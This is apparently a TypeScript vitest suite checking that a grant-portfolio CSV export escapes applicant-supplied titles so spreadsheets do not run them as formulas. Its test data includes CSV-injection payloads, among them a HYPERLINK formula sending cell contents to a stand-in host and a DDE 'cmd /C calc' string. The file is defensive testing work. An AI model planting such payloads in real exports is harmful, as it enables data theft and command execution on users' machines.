/**
 * The funder's portfolio CSV is opened in spreadsheets, often French or Arabic ones whose separator is
 * `;`. A grant's title is the applicant's text: whatever it holds, no piece of a cell may start a formula,
 * however the spreadsheet splits the cell (at a line break, a `;`, a `,` or a tab).
 */
import { describe, expect, it } from 'vitest';
import type { Grant } from '../api/types.ts';
import { portfolioCsv } from './funder-csv.ts';

const grant = (id: string, title: string) =>
  ({
    id,
    title,
    // the association's name is its own text too: the same hostile text goes through its column
    organisationName: title,
    state: 'active',
    amountRequested: { amount: 12000000, currency: 'TND' },
  }) as unknown as Grant;

/** The cells of a CSV as RFC 4180 reads it (quotes, doubled quotes, line breaks inside quotes). */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let cell = '';
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const c = text[i];
    if (quoted && c === '"' && text[i + 1] === '"') {
      cell += '"';
      i++;
    } else if (quoted && c === '"') quoted = false;
    else if (quoted) cell += c;
    else if (c === '"') quoted = true;
    else if (c === ',') {
      row.push(cell);
      cell = '';
    } else if (c === '\r' && text[i + 1] === '\n') {
      row.push(cell);
      rows.push(row);
      row = [];
      cell = '';
      i++;
    } else cell += c;
  }
  return rows;
}

/** Every piece a spreadsheet may make of the file: split at any separator, quotes and spaces dropped. */
const pieces = (text: string) => text.split(/[\r\n;,\t]/).map((p) => p.replace(/^["\s]+/, ''));
const FORMULA = /^[=+\-@]/;

describe("the funder's portfolio CSV", () => {
  const hostile = [
    'Kits\n=1+1;',
    'Kits;=HYPERLINK("http://evil.example/?x="&A1)',
    'Kits, +cmd|" /C calc"!A0',
    'Kits\r\n-2+3',
    '@SUM(1+1)*cmd',
    '\t=1+1',
    '=1+1',
  ];

  it('starts no formula in any piece of any cell, however a spreadsheet splits the cells', () => {
    // Prepare
    const grants = hostile.map((title, i) => grant(`g${i}`, title));

    // Act
    const csv = portfolioCsv(grants, [], undefined);

    // Assess
    const starting = pieces(csv.replace(/^\ufeff/, '')).filter((p) => FORMULA.test(p));
    expect(starting).toEqual([]);
  });

  it('keeps every title readable: only an apostrophe is added before what a spreadsheet would run', () => {
    // Prepare
    const grants = hostile.map((title, i) => grant(`g${i}`, title));

    // Act
    const rows = parseCsv(portfolioCsv(grants, [], undefined).replace(/^\ufeff/, ''));

    // Assess: one row per grant, with the title, apostrophes aside
    expect(rows).toHaveLength(hostile.length + 1);
    expect(rows.slice(1).map((r) => r[1]?.replaceAll("'", ''))).toEqual(hostile);
  });

  it('leaves a harmless title as it was, commas and semicolons included', () => {
    // Prepare
    const title = 'Bicycles, tools; parts — ورشة إصلاح الدراجات\nSecond line';

    // Act
    const rows = parseCsv(portfolioCsv([grant('g1', title)], [], undefined).replace(/^\ufeff/, ''));

    // Assess
    expect(rows[1]?.[1]).toBe(title);
  });
});
